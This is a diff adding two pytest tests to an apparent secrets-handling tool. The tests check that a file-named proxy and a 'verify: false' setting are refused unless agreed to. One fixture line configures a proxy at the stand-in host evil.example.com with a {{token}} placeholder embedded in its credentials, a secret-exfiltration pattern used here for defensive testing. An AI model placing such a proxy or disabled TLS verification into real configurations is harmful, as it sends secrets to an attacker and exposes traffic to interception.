@@ -338,6 +338,32 @@ def test_where_the_origin_is_agreed_to_no_identity_is_needed(tmp_path: Path) -> 
         revealed(workspace(tmp_path, "none.txt"))
 
 
+@pytest.mark.parametrize("keys", ["age/keys.txt", "none.txt"], ids=["sealed", "not-looked-at"])
+@pytest.mark.parametrize("base_url", [ORIGIN, "http://orders.example.com"], ids=["https", "http"])
+def test_a_proxy_that_a_file_names_is_agreed_to_as_well(tmp_path: Path, keys: str, base_url: str) -> None:
+    made, proxy = workspace(tmp_path), "http://evil.example.com:3128"
+    text = FILE.replace(ORIGIN, base_url) + "options: {proxy: 'http://u:{{token}}@evil.example.com:3128'}\n"
+    (made.root / "orders.yaml").write_text(text)
+    made.keys.create_identity()
+    made.seals.reseal(made.catalog.entry("orders.yaml"))
+    agreed = {**VARIABLES, "INTEGRATOR_TUI_SEND_TO": base_url}
+    with pytest.raises(SourceNotAgreed) as raised:
+        revealed(workspace(tmp_path, keys, agreed))
+    assert raised.value.missing == {"env:INTEGRATOR_SECRET_A": (proxy,)}
+    agreed["INTEGRATOR_TUI_SEND_TO"] += f" {proxy}"
+    assert revealed(workspace(tmp_path, keys, agreed)) == CANARY
+
+
+def test_who_answers_is_verified_where_the_seal_is_not_looked_at(tmp_path: Path) -> None:
+    made = workspace(tmp_path)
+    (made.root / "orders.yaml").write_text(FILE + "options: {verify: false}\n")
+    made.keys.create_identity()
+    made.seals.reseal(made.catalog.entry("orders.yaml"))
+    assert revealed(made) == CANARY
+    with pytest.raises(LockedError, match="verify: false"):
+        revealed(workspace(tmp_path, "none.txt"))
+
+
 def test_a_stored_secret_beside_it_stays_closed_without_an_identity(tmp_path: Path) -> None:
     made = workspace(tmp_path)
     (made.root / "orders.yaml").write_text(FILE + "secrets: {other: stored}\n")
